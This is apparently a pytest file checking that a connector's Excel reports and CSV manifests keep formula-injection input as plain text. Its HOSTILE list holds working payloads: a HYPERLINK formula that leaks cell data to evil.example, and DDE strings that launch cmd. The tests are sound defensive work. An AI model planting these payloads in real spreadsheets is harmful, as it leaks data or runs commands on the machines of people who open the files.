"""Formula injection: every spreadsheet and CSV we write keeps text that starts with =, +, -, @
as text, whatever the data (category names, messages, numbers, applicants' names)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest

from connector.ops.lko_reconcile import Difference, LkoReport, write_report
from connector.rubric_mapping import service
from connector.rubric_mapping.workbook import COL_CODE, COL_COMMENT, MAPPING_SHEET
from connector.sstu_export.archive import ArchiveItem, write_archives
from connector.store.db import Store

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
SAMPLES = service.SAMPLES_DIR


def _formula_cells(path: Path, allowed_columns: dict[str, set[str]] | None = None) -> list[str]:
    """Every formula cell of the workbook, except our own (sheet → column letters)."""
    found = []
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" and cell.column_letter not in (allowed_columns or {}).get(ws.title, set()):
                    found.append(f"{ws.title}!{cell.coordinate}: {cell.value}")
    return found


def test_the_mapping_validation_report_keeps_hostile_cells_as_text(tmp_path: Path) -> None:
    store = Store(f"sqlite:///{tmp_path / 'c.db'}")
    service.import_classifier(store, SAMPLES / "SAMPLE_sstu_classifier.json", "SAMPLE")
    service.store_categories_file(store, SAMPLES / "SAMPLE_pos_categories.json")
    template = tmp_path / "template.xlsx"
    service.make_template(store, template)
    wb = openpyxl.load_workbook(template)
    ws = wb[MAPPING_SHEET]
    header = [c.value for c in ws[1]]
    code_col, comment_col = header.index(COL_CODE) + 1, header.index(COL_COMMENT) + 1
    for row, text in enumerate(HOSTILE, start=2):
        ws.cell(row=row, column=code_col).value = text
        ws.cell(row=row, column=code_col).data_type = "s"
        ws.cell(row=row, column=comment_col).value = text
        ws.cell(row=row, column=comment_col).data_type = "s"
    filled = tmp_path / "filled.xlsx"
    wb.save(filled)
    report = tmp_path / "report.xlsx"
    result = service.validate_file(store, filled, report=report)
    store.dispose()
    assert not result.ok  # the hostile codes are reported...
    # ...and nothing in the report runs but our own name formula, kept from the admin's workbook
    assert _formula_cells(report, {MAPPING_SHEET: {"D"}}) == []
    copied = openpyxl.load_workbook(report)[MAPPING_SHEET]
    assert copied.cell(row=2, column=code_col).value == HOSTILE[0]


def test_the_lko_reconcile_report_keeps_hostile_cells_as_text(tmp_path: Path) -> None:
    out = tmp_path / "lko.xlsx"
    write_report(LkoReport(account="a", rows=3, differences=[
        Difference(kind="status", number=text, row=i, pos=text, ours=text) for i, text in enumerate(HOSTILE)]), out)
    assert _formula_cells(out) == []
    ws = openpyxl.load_workbook(out).active
    assert ws is not None and ws["B2"].value == HOSTILE[0]


@pytest.mark.parametrize("text", HOSTILE)
def test_the_sstu_manifest_csv_defuses_hostile_numbers_and_names(tmp_path: Path, text: str) -> None:
    item = ArchiveItem(uuid="6d1f7a52-7f0e-4c55-9a8e-2f1c3b9d4e01", number=text, name=text,
                       statuses=("InWork",), content=b"{}")
    [part] = write_archives([item], tmp_path, "sstu_").parts
    assert part.manifest is not None
    rows = list(csv.reader(io.StringIO(part.manifest.read_bytes().decode("utf-8-sig"), newline="")))
    number, name = rows[1][1], rows[1][2]
    for cell in (number, name):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert number == "'" + text
